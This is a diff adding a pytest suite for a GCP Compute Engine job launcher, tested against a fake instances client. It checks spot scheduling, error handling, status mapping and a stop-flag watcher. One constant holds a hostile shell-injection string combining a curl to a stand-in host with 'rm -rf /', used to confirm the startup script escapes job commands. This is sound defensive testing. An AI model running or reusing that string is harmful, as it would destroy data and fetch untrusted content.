@@ -1,0 +1,296 @@
+"""The Compute Engine launcher against a fake InstancesClient that keeps the exact request
+objects the SDK would send, answers with real compute_v1 messages, and fails the way a
+failed insert operation does (google.api_core exceptions carrying compute_v1 Errors)."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+compute_v1 = pytest.importorskip("google.cloud.compute_v1")
+from google.api_core import exceptions  # noqa: E402
+
+from costsched.clouds import gcp as gcp_cloud  # noqa: E402
+from costsched.model import InvalidInput, Offering  # noqa: E402
+from launchers.base import TAG_ATTEMPT, TAG_JOB, CapacityError, LaunchSpec  # noqa: E402
+from launchers.gcp import (  # noqa: E402
+    META_SPEC,
+    META_STOP,
+    GcpLauncher,
+    instance_name,
+    machine_and_accelerators,
+)
+from launchers.userdata import read_payload  # noqa: E402
+
+HOSTILE_COMMAND = "python train.py $(curl evil); rm -rf / #'"
+
+
+class Operation:
+    def __init__(self, error: Exception | None = None) -> None:
+        self.error = error
+
+    def result(self, timeout: float | None = None) -> None:
+        if self.error is not None:
+            raise self.error
+
+
+class FakeInstances:
+    """InstancesClient's methods as costsched calls them, over a dict of instances."""
+
+    def __init__(self) -> None:
+        self.inserted: list[compute_v1.InsertInstanceRequest] = []
+        self.deleted: list[tuple[str, str, str]] = []
+        self.metadata_set: list[compute_v1.Metadata] = []
+        self.listed: list[compute_v1.AggregatedListInstancesRequest] = []
+        self.store: dict[tuple[str, str], compute_v1.Instance] = {}
+        self.fail_insert: Exception | None = None
+
+    def insert(self, request: compute_v1.InsertInstanceRequest) -> Operation:
+        self.inserted.append(request)
+        if self.fail_insert is not None:
+            return Operation(self.fail_insert)
+        key = (request.zone, request.instance_resource.name)
+        if key in self.store:
+            return Operation(exceptions.Conflict("already exists"))
+        made = compute_v1.Instance(request.instance_resource)
+        made.status = "PROVISIONING"
+        made.metadata.fingerprint = "fp-1"
+        self.store[key] = made
+        return Operation()
+
+    def get(self, *, project: str, zone: str, instance: str) -> compute_v1.Instance:
+        assert project == "proj"
+        if (zone, instance) not in self.store:
+            raise exceptions.NotFound(f"instance {instance} not found")
+        return self.store[(zone, instance)]
+
+    def delete(self, *, project: str, zone: str, instance: str) -> Operation:
+        self.deleted.append((project, zone, instance))
+        if self.store.pop((zone, instance), None) is None:
+            return Operation(exceptions.NotFound(f"instance {instance} not found"))
+        return Operation()
+
+    def set_metadata(self, *, project: str, zone: str, instance: str,
+                     metadata_resource: compute_v1.Metadata) -> Operation:
+        self.metadata_set.append(metadata_resource)
+        self.store[(zone, instance)].metadata = metadata_resource
+        return Operation()
+
+    def aggregated_list(self, request: compute_v1.AggregatedListInstancesRequest):
+        self.listed.append(request)
+        zones: dict[str, list[compute_v1.Instance]] = {}
+        for (zone, _), made in self.store.items():
+            wanted = request.filter.split("=", 1)[1].strip().strip('"') \
+                if "=" in request.filter else None
+            if wanted is None or made.labels.get(TAG_JOB) == wanted:
+                zones.setdefault(f"zones/{zone}", []).append(made)
+        return [(scope, compute_v1.InstancesScopedList(instances=found))
+                for scope, found in zones.items()]
+
+
+def offering(instance_type: str = "n1-standard-8+1xnvidia-tesla-v100", market: str = "spot",
+             zone: str = "us-central1-a") -> Offering:
+    return Offering("gcp", "us-central1", zone, instance_type, market, "V100", 1)
+
+
+def spec(off: Offering | None = None, attempt: str = "Migration 3/Ä", job_id: int = 7
+         ) -> LaunchSpec:
+    return LaunchSpec(job_id=job_id, job_name="n'$(x)", command=HOSTILE_COMMAND,
+                      offering=off or offering(), checkpoint_uri="gs://b/ckpt",
+                      attempt=attempt, envs={"LR": "0.1"})
+
+
+@pytest.fixture
+def fake() -> FakeInstances:
+    return FakeInstances()
+
+
+@pytest.fixture
+def launcher(fake: FakeInstances) -> GcpLauncher:
+    return GcpLauncher(project="proj", instances_client=fake,
+                       service_account="runner@proj.iam.gserviceaccount.com")
+
+
+def test_spot_n1_insert_request(fake: FakeInstances, launcher: GcpLauncher) -> None:
+    got = launcher.launch(spec())
+    [request] = fake.inserted
+    assert (request.project, request.zone) == ("proj", "us-central1-a")
+    assert request.request_id  # the same (job, attempt) retries with the same id
+    body = request.instance_resource
+    assert body.name == instance_name(7, "Migration 3/Ä") == got.id.split("/")[1]
+    assert body.machine_type == "zones/us-central1-a/machineTypes/n1-standard-8"
+    assert list(body.guest_accelerators) == [compute_v1.AcceleratorConfig(
+        accelerator_count=1,
+        accelerator_type="zones/us-central1-a/acceleratorTypes/nvidia-tesla-v100")]
+    assert body.scheduling == compute_v1.Scheduling(
+        provisioning_model="SPOT", instance_termination_action="DELETE",
+        on_host_maintenance="TERMINATE", automatic_restart=False)
+    assert dict(body.labels) == {TAG_JOB: "7", TAG_ATTEMPT: "migration-3--"}
+    items = {i.key: i.value for i in body.metadata.items}
+    job = read_payload(items["startup-script"])
+    assert job["command"] == HOSTILE_COMMAND
+    assert job["notice_url"] == gcp_cloud.PREEMPTION_NOTICE_URL
+    assert HOSTILE_COMMAND not in items["startup-script"]
+    assert "curl evil" not in items["startup-script"]
+    assert json.loads(items[META_SPEC])["attempt"] == "Migration 3/Ä"
+    assert body.disks[0].initialize_params.source_image == gcp_cloud.GPU_IMAGE
+    assert body.service_accounts[0].email == "runner@proj.iam.gserviceaccount.com"
+    assert (got.state, got.job_id, got.attempt) == ("pending", 7, "Migration 3/Ä")
+    assert got.offering_key == offering().key
+
+
+def test_accelerator_machine_type_on_demand(fake: FakeInstances, launcher) -> None:
+    launcher.launch(spec(offering("a2-highgpu-1g", "on_demand")))
+    body = fake.inserted[0].instance_resource
+    assert body.machine_type == "zones/us-central1-a/machineTypes/a2-highgpu-1g"
+    assert list(body.guest_accelerators) == []
+    assert body.scheduling == compute_v1.Scheduling(on_host_maintenance="TERMINATE")
+
+
+def test_machine_and_accelerators_parsing() -> None:
+    assert machine_and_accelerators("n1-standard-16+2xnvidia-tesla-t4") == (
+        "n1-standard-16", "nvidia-tesla-t4", 2)
+    assert machine_and_accelerators("g2-standard-4") == ("g2-standard-4", "", 0)
+    with pytest.raises(InvalidInput, match="instance type 'n2-standard-8'"):
+        machine_and_accelerators("n2-standard-8")
+
+
+def test_regional_offering_takes_the_first_known_zone(fake: FakeInstances) -> None:
+    asked = []
+
+    def zones(off: Offering) -> list[str]:
+        asked.append(off.region)
+        return ["us-central1-f", "us-central1-a"]
+
+    launcher = GcpLauncher(project="proj", instances_client=fake, zones=zones)
+    got = launcher.launch(spec(offering(zone="")))
+    assert fake.inserted[0].zone == "us-central1-f" and asked == ["us-central1"]
+    assert got.id.startswith("us-central1-f/")
+    assert got.offering_key == offering(zone="").key  # the offering asked for, not the zone
+    with pytest.raises(InvalidInput, match="no zone known"):
+        GcpLauncher(project="proj", instances_client=fake).launch(spec(offering(zone="")))
+
+
+def test_insert_again_after_a_crash_finds_the_instance(fake, launcher) -> None:
+    first = launcher.launch(spec())
+    again = GcpLauncher(project="proj", instances_client=fake).launch(spec())
+    assert again.id == first.id and len(fake.store) == 1
+    assert fake.inserted[0].request_id == fake.inserted[1].request_id
+
+
+@pytest.mark.parametrize("code", ["ZONE_RESOURCE_POOL_EXHAUSTED",
+                                  "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS",
+                                  "QUOTA_EXCEEDED"])
+def test_capacity_errors(fake: FakeInstances, launcher: GcpLauncher, code: str) -> None:
+    # What ExtendedOperation.result() raises for a failed insert operation.
+    fake.fail_insert = exceptions.from_http_status(
+        400, "The zone does not have enough resources available",
+        errors=[compute_v1.Errors(code=code, message="details")])
+    with pytest.raises(CapacityError) as caught:
+        launcher.launch(spec())
+    assert code in caught.value.reason and caught.value.offering == offering()
+
+
+def test_stockout_message_and_other_errors(fake: FakeInstances, launcher) -> None:
+    fake.fail_insert = exceptions.ServiceUnavailable("stockout in us-central1-a")
+    with pytest.raises(CapacityError):
+        launcher.launch(spec())
+    fake.fail_insert = exceptions.BadRequest("Invalid value for field 'machineType'",
+                                             errors=[{"reason": "invalid"}])
+    with pytest.raises(RuntimeError) as caught:
+        launcher.launch(spec())
+    assert not isinstance(caught.value, CapacityError) and "machineType" in str(caught.value)
+
+
+@pytest.mark.parametrize(("status", "market", "state"), [
+    ("PROVISIONING", "spot", "pending"), ("STAGING", "spot", "pending"),
+    ("RUNNING", "spot", "running"), ("STOPPING", "spot", "preempted"),
+    ("TERMINATED", "spot", "preempted"), ("TERMINATED", "on_demand", "terminated")])
+def test_status_mapping(fake, launcher, status: str, market: str, state: str) -> None:
+    got = launcher.launch(spec(offering(market=market)))
+    fake.store[tuple(got.id.split("/"))].status = status
+    assert launcher.status(got.id).state == state
+
+
+def test_deleted_spot_instance_reads_preempted_unless_we_deleted_it(fake, launcher) -> None:
+    taken = launcher.launch(spec(attempt="a"))
+    fake.store.pop(tuple(taken.id.split("/")))  # Compute Engine deletes it on preemption
+    assert launcher.status(taken.id).state == "preempted"
+    ours = launcher.launch(spec(attempt="b"))
+    launcher.terminate(ours.id)
+    launcher.terminate(ours.id)  # idempotent
+    assert fake.deleted[0] == ("proj", "us-central1-a", ours.id.split("/")[1])
+    assert launcher.status(ours.id).state == "terminated"
+    with pytest.raises(InvalidInput, match="ZONE/NAME"):
+        launcher.status("not-a-handle")
+
+
+def test_instances_by_label(fake: FakeInstances, launcher: GcpLauncher) -> None:
+    seven = launcher.launch(spec(job_id=7))
+    eight = launcher.launch(spec(job_id=8))
+    assert [i.id for i in launcher.instances(8)] == [eight.id]
+    assert fake.listed[-1].filter == f'labels.{TAG_JOB} = "8"'
+    assert {i.id for i in launcher.instances()} == {seven.id, eight.id}
+    assert fake.listed[-1].filter == f"labels.{TAG_JOB}:*"
+
+
+def test_request_stop_sets_the_stop_flag(fake: FakeInstances, launcher) -> None:
+    got = launcher.launch(spec())
+    launcher.request_stop(got.id)
+    [metadata] = fake.metadata_set
+    items = {i.key: i.value for i in metadata.items}
+    assert metadata.fingerprint == "fp-1"
+    assert items[META_STOP] == "TRUE" and "startup-script" in items
+    assert read_payload(items["startup-script"])["stop"]["url"].endswith(META_STOP)
+
+
+def test_stop_flag_watcher_sends_sigterm_to_the_agent(tmp_path) -> None:
+    """The startup script under bash with a stand-in agent: once the loopback "metadata
+    server" answers TRUE, the watcher beside the agent sends it SIGTERM."""
+    import http.server
+    import os
+    import subprocess
+    import sys
+    import threading
+
+    from launchers.userdata import StopFlag, startup_script
+
+    class Flag(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802
+            ok = self.headers.get("Metadata-Flavor") == "Google"
+            body = b"TRUE" if ok else b"FALSE"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Flag)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    root = tmp_path / "root"
+    (root / "bin").mkdir(parents=True)
+    (root / "bin" / "python").symlink_to(sys.executable)
+    fake = tmp_path / "fake" / "launchers"
+    fake.mkdir(parents=True)
+    (fake / "__init__.py").write_text("")
+    got = tmp_path / "sigterm"
+    (fake / "agent.py").write_text(
+        "import signal, sys, time\n"
+        f"signal.signal(signal.SIGTERM, lambda *a: (open({str(got)!r}, 'w').close(), "
+        "sys.exit(0)))\n"
+        "time.sleep(30)\nsys.exit(3)\n")
+    flag = StopFlag(url=f"http://127.0.0.1:{server.server_port}/stop",
+                    headers={"Metadata-Flavor": "Google"}, every_seconds=1.0)
+    script = startup_script(spec(), install="true", notice_url="http://127.0.0.1:9/none",
+                            root=str(root), stop=flag)
+    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(fake.parent)}
+    try:
+        done = subprocess.run(["bash", "-c", script], env=env, capture_output=True,
+                              text=True, timeout=60, cwd=tmp_path)
+    finally:
+        server.shutdown()
+    assert done.returncode == 0, done.stderr
+    assert got.exists()
